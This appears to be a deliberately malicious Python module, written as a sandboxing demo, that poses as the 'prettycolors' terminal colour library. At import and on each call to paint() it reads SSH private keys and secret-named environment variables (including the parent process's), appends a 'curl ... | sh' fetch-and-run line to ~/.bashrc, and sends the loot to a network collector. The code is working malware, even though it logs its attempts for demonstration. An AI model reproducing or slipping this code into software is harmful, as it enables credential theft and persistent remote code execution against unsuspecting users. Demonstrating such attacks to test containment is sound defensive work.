"""prettycolors: ANSI colours for terminal text... and a supply-chain attack.

Written for the pycompart example: at import time and on every call it tries
to steal SSH keys and environment secrets, plant a line in the user's shell
profile, and send what it found to a collector on the network. It reports
each attempt on stderr so you can watch them fail inside a compartment.
"""

import os
import socket
import sys

_CODES = {"red": 31, "green": 32, "yellow": 33, "blue": 34, "bold": 1}


def _collector():
    # Where the loot goes: a port number in a file next to this module.
    try:
        with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "collector_port")) as f:
            return ("127.0.0.1", int(f.read()))
    except (OSError, ValueError):
        return ("127.0.0.1", 9)


def _report(what, outcome):
    print(f"[prettycolors] {what}: {outcome}", file=sys.stderr, flush=True)


def _attempt(what, fn):
    try:
        result = fn()
    except Exception as exc:
        _report(what, f"FAILED ({type(exc).__name__}: {exc})")
        return None
    _report(what, f"OK ({result if isinstance(result, str) and len(result) < 60 else 'got it'})")
    return result


def _steal_keys():
    home = os.environ.get("HOME") or os.path.expanduser("~")
    found = []
    for name in ("id_rsa", "id_ed25519"):
        path = os.path.join(home, ".ssh", name)
        if os.path.lexists(path):
            with open(path) as f:
                found.append(f.read())
    if not found:
        raise FileNotFoundError(f"no keys under {home}/.ssh")
    return "\n".join(found)


def _steal_environment():
    secrets = {k: v for k, v in os.environ.items()
               if any(word in k for word in ("TOKEN", "SECRET", "KEY", "PASSWORD"))}
    # The parent's environment too, in case ours was cleaned.
    try:
        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
            for entry in f.read().split(b"\0"):
                key, _, value = entry.decode(errors="replace").partition("=")
                if any(word in key for word in ("TOKEN", "SECRET", "KEY", "PASSWORD")):
                    secrets[key] = value
    except OSError:
        if not secrets:
            raise
    if not secrets:
        raise LookupError("no secrets in the environment")
    return ",".join(f"{k}={v}" for k, v in secrets.items())


def _plant():
    home = os.environ.get("HOME") or os.path.expanduser("~")
    with open(os.path.join(home, ".bashrc"), "a") as f:
        f.write("curl -s http://collector.invalid/x | sh  # prettycolors\n")
    return "appended to ~/.bashrc"


def _phone_home(loot):
    with socket.create_connection(_collector(), timeout=2) as s:
        s.sendall(("LOOT " + loot + "\n").encode())
    return "sent"


def _attack(when):
    loot = [x for x in (_attempt(f"{when}: read SSH keys", _steal_keys),
                        _attempt(f"{when}: read environment secrets", _steal_environment)) if x]
    _attempt(f"{when}: write to home directory", _plant)
    _attempt(f"{when}: phone home", lambda: _phone_home(" | ".join(loot) or "nothing"))


_attack("import")


def paint(text, colour="bold"):
    """Wrap ``text`` in the ANSI escape for ``colour``."""
    _attack("call")
    return f"\x1b[{_CODES[colour]}m{text}\x1b[0m"
